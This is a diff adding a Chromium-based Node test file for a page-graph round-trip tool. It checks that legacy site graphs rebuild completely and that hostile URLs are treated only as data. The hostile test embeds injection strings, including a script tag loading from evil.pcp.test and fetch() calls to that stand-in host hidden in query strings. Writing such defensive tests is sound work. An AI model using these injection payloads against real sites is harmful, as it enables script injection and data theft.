@@ -1,0 +1,59 @@
+/**
+ * The round trip in real Chromium on two small legacy graphs (structural checks only: every
+ * resource comes back, the page's parse structure and scripts are rebuilt) and on a hand-made page
+ * whose URLs are hostile: they are requested as data and never run.
+ */
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { legacySites } from '@pcp/graph-builder';
+import { roundTrip } from './roundtrip.ts';
+import { graphOf, res } from './testing.ts';
+
+const CHROMIUM = existsSync('/usr/bin/chromium');
+const work = mkdtempSync(join(tmpdir(), 'pcp-synth-test-'));
+test.after(() => rmSync(work, { recursive: true, force: true }));
+
+for (const slug of ['www.friv.com', 'london.craigslist.co.uk']) {
+  test(`round trip of the legacy graph ${slug}: every resource, parse chunk and script comes back`, { skip: !CHROMIUM && 'no Chromium', timeout: 300_000 }, async () => {
+    const site = legacySites().find((s) => s.slug === slug)!;
+    const rt = await roundTrip(site.graph, join(work, slug));
+    assert.match(rt.profileLine, /^complete: .* 0 misses$/);
+    assert.equal(rt.figures.resourceJaccard, 1, `missing ${rt.figures.missingResources} extra ${rt.figures.extraResources}`);
+    assert.ok(rt.figures.parseChunks.built >= rt.figures.parseChunks.source, JSON.stringify(rt.figures.parseChunks));
+    const evals = (g: typeof rt.source): string[] => [...new Set(g.nodes.flatMap((n) => (n.kind === 'script_eval' ? [n.scriptUrl] : [])))].sort();
+    assert.deepEqual(evals(rt.built), evals(rt.source));
+    // Every evaluation of a script file follows a download of that file (which frame's request came
+    // first, and so which repeat pairs with which frame, is the browser's race: not checked).
+    const byId = new Map(rt.built.nodes.map((n) => [n.id, n]));
+    for (const n of rt.built.nodes) {
+      if (n.kind !== 'script_eval' || n.scriptKind === 'inline' || rt.built.edges.some((e) => e.to === n.id && e.rule === 'split')) continue;
+      const downloads = rt.built.edges.filter((e) => e.to === n.id).map((e) => byId.get(e.from)!).filter((p) => p.kind === 'resource' && p.url === n.scriptUrl);
+      assert.ok(downloads.length > 0, `${n.id} (${n.scriptUrl}) has no download of its script as parent`);
+    }
+  });
+}
+
+test('hostile URLs are requested as data and never run as markup or code', { skip: !CHROMIUM && 'no Chromium', timeout: 300_000 }, async () => {
+  const page = 'http://hostile.pcp.test/';
+  const evil = `http://hostile.pcp.test/x.png?"><script src="http://evil.pcp.test/run.js"></script><img src='http://evil.pcp.test/i.png'>`;
+  const evilJs = `http://hostile.pcp.test/y.js?'+(fetch("http://evil.pcp.test/js"))+'</script><script>fetch("http://evil.pcp.test/s")</script>`;
+  const graph = graphOf(page, [
+    res('doc', page, 'text/html', 2000),
+    { id: 'p0', kind: 'parse_chunk', docUrl: page, startLine: 1, startColumn: 16, endLine: 2, endColumn: 1 },
+    { id: 'p1', kind: 'parse_chunk', docUrl: page, startLine: 3, startColumn: 1, endLine: 4, endColumn: 1 },
+    res('img', evil, 'image/png', 500),
+    res('js', evilJs, 'application/javascript', 800),
+    { id: 's', kind: 'script_eval', scriptUrl: evilJs, scriptKind: 'sync', start: 1, end: 3 },
+    res('img2', `${evil}&by=script`, 'image/gif', 300),
+  ], [['doc', 'p0', 'resource-chunk'], ['p0', 'js', 1], ['js', 's', 10], ['s', 'p1', 4], ['p1', 'img', 1], ['s', 'img2', 2]]);
+  const file = join(work, 'hostile.json');
+  writeFileSync(file, JSON.stringify(graph));
+  const rt = await roundTrip(file, join(work, 'hostile'));
+  const urls = rt.built.nodes.flatMap((n) => (n.kind === 'resource' ? [n.url] : []));
+  assert.deepEqual(urls.filter((u) => u.includes('evil.pcp.test') && !u.startsWith('http://hostile.pcp.test/')), []);
+  assert.equal(rt.figures.resourceJaccard, 1, `missing ${rt.figures.missingResources} extra ${rt.figures.extraResources}`);
+  assert.equal(rt.figures.parentAgreement, 1, JSON.stringify(rt.figures.parentMisses));
+});
